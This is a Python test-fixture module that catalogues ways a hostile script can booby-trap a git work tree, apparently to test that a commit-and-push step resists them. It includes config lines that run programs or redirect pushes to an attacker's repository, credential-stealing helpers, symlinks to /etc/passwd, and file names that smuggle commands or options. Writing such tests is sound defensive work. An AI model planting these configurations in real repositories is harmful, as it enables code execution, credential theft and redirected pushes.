"""What a hostile script can leave in its work tree for whoever commits and pushes from there.

Each vector is planted for real. `{run}` is a program that notes that it was run and goes on as
if nothing had happened; `{url}` is the repository's own address and `{other}` that of one of the
attacker's on the same forge; `{work}` is the work tree.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Final

from tests.acceptance.agent_rig import git

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping
    from pathlib import Path

RESULT: Final = {"result.txt": b"a result\n", "data/one.csv": b"2\n"}
"""What the script was there for: it must arrive, whatever else it did."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Trap:
    """Where a vector strikes, and what it has to strike with."""

    work: Path
    fired: Path
    """Who was run is noted here."""
    run: Path
    """The program that takes the note."""
    url: str
    """URL of the repository."""
    other: str
    """URL of the attacker's repository."""

    def filled(self, text: str) -> str:
        """Return a text with what it refers to."""
        for name in ("run", "url", "other", "work"):
            text = text.replace(f"{{{name}}}", str(getattr(self, name)))
        return text

    def write(self, name: str, text: str | bytes) -> Path:
        """Write a file of the work tree."""
        path = self.work / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode() if isinstance(text, str) else text)
        return path


@dataclass(frozen=True, slots=True, kw_only=True)
class Vector:
    """One thing that a script does, and what has to become of its results."""

    name: str
    config: str = ""
    """What is appended to `.git/config`."""
    files: Mapping[str, str | bytes] = field(default_factory=dict)
    """Files of the tree that are written; results that must arrive byte for byte."""
    inside: Mapping[str, str] = field(default_factory=dict)
    """Files below `.git`."""
    left_out: tuple[str, ...] = ()
    """Those of `files` that must be left out by name instead."""
    attack: Callable[[Trap], None] | None = None
    """What no file can say."""

    def plant(self, trap: Trap) -> None:
        """Do it."""
        for name, content in (*RESULT.items(), *self.files.items()):
            text = trap.filled(content) if isinstance(content, str) else content
            trap.write(name, text)
        for name, text in self.inside.items():
            trap.write(f".git/{name}", trap.filled(text)).chmod(0o755)
        if self.config:
            with (trap.work / ".git/config").open("a", encoding="utf-8") as config:
                config.write(trap.filled(self.config))
        if self.attack is not None:
            self.attack(trap)


def _git_file(trap: Trap) -> None:
    """Let `.git` be a file that points at a directory with hooks."""
    elsewhere = trap.work.parent / "elsewhere"
    (trap.work / ".git").rename(elsewhere)
    hook = elsewhere / "hooks" / "pre-commit"
    hook.parent.mkdir(exist_ok=True)
    shutil.copy(trap.run, hook)
    trap.write(".git", f"gitdir: {elsewhere}\n")


def _git_link(trap: Trap) -> None:
    """Let `.git` be a symbolic link to the attacker's directory."""
    _git_file(trap)
    (trap.work / ".git").unlink()
    (trap.work / ".git").symlink_to(trap.work.parent / "elsewhere")


def _no_git(trap: Trap) -> None:
    shutil.rmtree(trap.work / ".git")


def _git_pipe(trap: Trap) -> None:
    _no_git(trap)
    os.mkfifo(trap.work / ".git")


def _nested(trap: Trap) -> None:
    """Make a repository of its own below the root, with a commit and a hook."""
    folder = trap.work / "nested"
    git(folder, "init", "--quiet", "--initial-branch=main")
    git(folder, "add", "--all")
    git(folder, "commit", "--quiet", "--message", "inner")
    shutil.copy(trap.run, folder / ".git" / "hooks" / "pre-commit")


def _worktree(trap: Trap) -> None:
    """Make a second work tree of the repository inside of the first."""
    kept = (trap.work / "tree/inner.txt").read_bytes()
    shutil.rmtree(trap.work / "tree")
    git(trap.work, "worktree", "add", "--quiet", "tree", "-b", "side")
    for path in (trap.work / "tree").iterdir():
        if path.name != ".git":
            shutil.rmtree(path) if path.is_dir() else path.unlink()
    trap.write("tree/inner.txt", kept)


def _embedded(trap: Trap) -> None:
    """Let a folder of results look like a bare repository whose configuration runs a program."""
    git(trap.work, "init", "--quiet", "--bare", "bare.d")
    with (trap.work / "bare.d/config").open("a", encoding="utf-8") as config:
        config.write(trap.filled("[core]\n\tfsmonitor = {run}\n\tworktree = {work}\n"))
    shutil.rmtree(trap.work / "bare.d/hooks")


def _unwatched(trap: Trap) -> None:
    """Tell the index not to look at a result."""
    git(trap.work, "update-index", "--assume-unchanged", "data/one.csv")


def _skipped(trap: Trap) -> None:
    git(trap.work, "update-index", "--skip-worktree", "data/one.csv")


def _replaced(trap: Trap) -> None:
    """Let git see another commit where the one that ran is."""
    tree = git(trap.work, "mktree", "--missing")
    fake = git(trap.work, "commit-tree", "-m", "fake", tree)
    git(trap.work, "replace", "--force", "HEAD", fake)


def _detached(trap: Trap) -> None:
    """Let the branch be an orphan of another history."""
    git(trap.work, "checkout", "--quiet", "--orphan", "fresh")
    git(trap.work, "commit", "--quiet", "--message", "orphan", "--allow-empty")
    git(trap.work, "branch", "--force", "main", "fresh")
    git(trap.work, "checkout", "--quiet", "main")


def _locked(trap: Trap) -> None:
    trap.write(".git/index.lock", "")
    trap.write(".git/HEAD.lock", "")


def _options_as_refs(trap: Trap) -> None:
    """Name branches like options, and check one of them out."""
    sha = git(trap.work, "rev-parse", "HEAD")
    for name in ("--upload-pack=touch", "-c", "--exec=x"):
        trap.write(f".git/refs/heads/{name}", f"{sha}\n")
    trap.write(".git/HEAD", "ref: refs/heads/--upload-pack=touch\n")


def _committed(trap: Trap) -> None:
    """Commit the results oneself, so that a look at the index finds nothing."""
    git(trap.work, "add", "--all")
    git(trap.work, "commit", "--quiet", "--message", "mine")


def _links(trap: Trap) -> None:
    """Leave links that lead out, up and into `.git`."""
    for name, target in (
        ("passwd", "/etc/passwd"),
        ("up", "../../../etc/passwd"),
        ("config", ".git/config"),
        (".gitmodules", "result.txt"),
    ):
        (trap.work / name).symlink_to(target)


def _odd(trap: Trap) -> None:
    """Leave what is no file."""
    os.mkfifo(trap.work / "pipe")
    subprocess.run(["mknod", str(trap.work / "null"), "c", "1", "3"], check=False)


HOOKS: Final = (
    *("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "pre-push", "update"),
    *("reference-transaction", "post-index-change", "post-checkout", "fsmonitor-watchman"),
)
BINARY: Final = bytes(range(256)) + b"\r\n$Id$ $Format:%H$\n"
ODD_NAMES: Final[Mapping[str, bytes]] = {
    "--upload-pack=touch x": b"1",
    "-rf": b"2",
    ":(top)x": b"3",
    "$(touch x)": b"4",
    "a\nb": b"5",
    '"; touch x; "': b"6",
    "-c/core.hooksPath=x": b"7",
    "\u202egnp.exe": b"8",
}
DISGUISES: Final = (
    *(".GIT/config", "git~1/config", ".git ./config", ".g\u200cit/config", "x/.git\\config"),
    *("sub/.Git", "GIT~1", ".git::$INDEX_ALLOCATION/config"),
)

VECTORS: Final = (
    Vector(name="nothing at all"),
    Vector(
        name="hooks",
        inside=dict.fromkeys([f"hooks/{each}" for each in HOOKS], "#!/bin/sh\nexec {run} hook\n"),
    ),
    Vector(
        name="core.hooksPath",
        config="[core]\n\thooksPath = {work}/h\n",
        inside={"../h/pre-commit": "#!/bin/sh\nexec {run} hook\n"},
    ),
    Vector(name="core.fsmonitor", config="[core]\n\tfsmonitor = {run}\n"),
    Vector(name="core.sshCommand", config="[core]\n\tsshCommand = {run}\n"),
    Vector(name="core.askPass", config="[core]\n\taskPass = {run}\n"),
    Vector(
        name="core.editor and core.pager", config="[core]\n\teditor = {run}\n\tpager = {run}\n"
    ),
    Vector(name="core.gitProxy", config="[core]\n\tgitProxy = {run}\n"),
    Vector(
        name="core.alternateRefsCommand",
        config="[core]\n\talternateRefsCommand = {run}\n",
        inside={"objects/info/alternates": "{work}/../source/.git/objects\n"},
    ),
    Vector(name="core.worktree", config="[core]\n\tworktree = /etc\n"),
    Vector(name="core.bare", config="[core]\n\tbare = true\n"),
    Vector(
        name="core.excludesFile",
        config="[core]\n\texcludesFile = {work}/.git/info/all\n",
        inside={"info/all": "*\n"},
    ),
    Vector(
        name="core.attributesFile",
        config='[core]\n\tattributesFile = {work}/.git/a\n[filter "x"]\n\tclean = {run}\n',
        inside={"a": "* filter=x\n"},
    ),
    Vector(name="credential.helper", config="[credential]\n\thelper = !{run}\n"),
    Vector(
        name="credential.helper for the forge",
        config='[credential "http://127.0.0.1"]\n\thelper = store --file={work}/stolen\n',
    ),
    Vector(name="gpg.program", config="[commit]\n\tgpgSign = true\n[gpg]\n\tprogram = {run}\n"),
    Vector(name="url.insteadOf", config='[url "{other}"]\n\tinsteadOf = {url}\n'),
    Vector(name="url.pushInsteadOf", config='[url "{other}"]\n\tpushInsteadOf = {url}\n'),
    Vector(name="remote.pushurl", config='[remote "origin"]\n\tpushurl = {other}\n'),
    Vector(
        name="remote.pushurl with ext",
        config='[protocol "ext"]\n\tallow = always\n[remote "origin"]\n\tpushurl = ext::{run}\n',
    ),
    Vector(
        name="remote.receivepack",
        config='[remote "origin"]\n\treceivepack = {run}\n\tpushurl = {work}/../source\n',
    ),
    Vector(name="remote.vcs", config='[remote "origin"]\n\tvcs = docklet-trap\n'),
    Vector(name="remote.mirror", config='[remote "origin"]\n\tmirror = true\n'),
    Vector(name="remote.push", config='[remote "origin"]\n\tpush = HEAD:refs/heads/theirs\n'),
    Vector(
        name="remote.pushDefault",
        config='[remote "theirs"]\n\turl = {other}\n[remote]\n\tpushDefault = theirs\n',
    ),
    Vector(
        name="branch.pushRemote",
        config='[remote "theirs"]\n\turl = {other}\n[branch "main"]\n\tpushRemote = theirs\n',
    ),
    Vector(
        name="http.proxy", config="[http]\n\tproxy = http://127.0.0.1:9\n\tsslVerify = false\n"
    ),
    Vector(name="http.extraHeader", config="[http]\n\textraHeader = Authorization: Basic eDp5\n"),
    Vector(
        name="include.path",
        config="[include]\n\tpath = {work}/evil.cfg\n",
        files={"evil.cfg": "[core]\n\tfsmonitor = {run}\n"},
    ),
    Vector(
        name="includeIf",
        config='[includeIf "gitdir:**"]\n\tpath = {work}/evil.cfg\n',
        files={"evil.cfg": '[url "{other}"]\n\tinsteadOf = {url}\n'},
    ),
    Vector(
        name="extensions.worktreeConfig",
        config="[extensions]\n\tworktreeConfig = true\n",
        inside={"config.worktree": "[core]\n\tfsmonitor = {run}\n"},
    ),
    Vector(
        name="filter.clean",
        config='[filter "x"]\n\tclean = {run}\n\trequired = true\n',
        files={".gitattributes": "* filter=x\n"},
    ),
    Vector(
        name="filter.process",
        config='[filter "x"]\n\tprocess = {run}\n\trequired = true\n',
        files={".gitattributes": "*.txt filter=x\n"},
    ),
    Vector(
        name="filter in info/attributes",
        config='[filter "x"]\n\tclean = {run}\n',
        inside={"info/attributes": "* filter=x\n"},
    ),
    Vector(
        name="diff.external",
        config='[diff]\n\texternal = {run}\n[diff "x"]\n\ttextconv = {run}\n\tcommand = {run}\n',
        files={".gitattributes": "* diff=x\n"},
    ),
    Vector(
        name="merge.driver",
        config='[merge "x"]\n\tdriver = {run}\n',
        files={".gitattributes": "* merge=x\n"},
    ),
    Vector(name="trailer.command", config='[trailer "x"]\n\tcommand = {run}\n\tifmissing = add\n'),
    Vector(name="alias", config="[alias]\n\tcommit-tree = !{run}\n\tpush = !{run}\n"),
    Vector(
        name="commit.template and cleanup",
        config="[commit]\n\ttemplate = /etc/passwd\n[i18n]\n\tcommitEncoding = UTF-16\n",
    ),
    Vector(
        name="attributes that convert",
        files={
            ".gitattributes": "* text=auto eol=crlf ident export-subst\n"
            "*.u16 text working-tree-encoding=UTF-16\n",
            "a.u16": "\u00fc\r\n".encode("utf-16"),
            "binary": BINARY,
            "b.u16": b"\xff",
        },
    ),
    Vector(
        name="LFS with another URL",
        files={
            ".lfsconfig": "[lfs]\n\turl = {other}/info/lfs\n\tpushurl = {other}/info/lfs\n",
        },
        config='[lfs]\n\turl = {other}/info/lfs\n[lfs "customtransfer.x"]\n\tpath = {run}\n'
        "[lfs]\n\tstandalonetransferagent = x\n",
    ),
    Vector(
        name="submodules",
        files={
            ".gitmodules": '[submodule "../../x"]\n\tpath = sub\n\turl = ext::{run}\n'
            "\tupdate = !{run}\n"
            '[submodule "y"]\n\tpath = -c\n\turl = --upload-pack={run}\n',
        },
        left_out=(".gitmodules",),
        config='[submodule "../../x"]\n\tactive = true\n\turl = ext::{run}\n\tupdate = !{run}\n'
        "[push]\n\trecurseSubmodules = on-demand\n",
    ),
    Vector(name=".git is a file", attack=_git_file),
    Vector(name=".git is a link", attack=_git_link),
    Vector(name=".git is a pipe", attack=_git_pipe),
    Vector(name="no .git", attack=_no_git),
    Vector(name="nested repository", files={"nested/inner.txt": b"inner"}, attack=_nested),
    Vector(
        name="work tree in the work tree", files={"tree/inner.txt": b"inner"}, attack=_worktree
    ),
    Vector(name="folder that is a bare repository", attack=_embedded),
    Vector(
        name="disguises of .git", files=dict.fromkeys(DISGUISES, b"[core]\n"), left_out=DISGUISES
    ),
    Vector(name="info/exclude", inside={"info/exclude": "*\n"}),
    Vector(name="assume-unchanged", attack=_unwatched),
    Vector(name="skip-worktree", attack=_skipped),
    Vector(name="replace refs", attack=_replaced),
    Vector(name="another history", attack=_detached),
    Vector(name="locks", attack=_locked),
    Vector(name="broken index", inside={"index": "DIRC nonsense"}),
    Vector(name="packed-refs and shallow", inside={"packed-refs": "x\n", "shallow": "y\n"}),
    Vector(name="refs named like options", attack=_options_as_refs),
    Vector(name="results committed already", attack=_committed),
    Vector(name="names like options", files=ODD_NAMES),
    Vector(name="links that lead out", attack=_links),
    Vector(name="what is no file", attack=_odd),
    Vector(
        name="a workflow",
        files={".github/workflows/x.yml": b"on: push\n"},
        left_out=(".github/workflows/x.yml",),
    ),
)
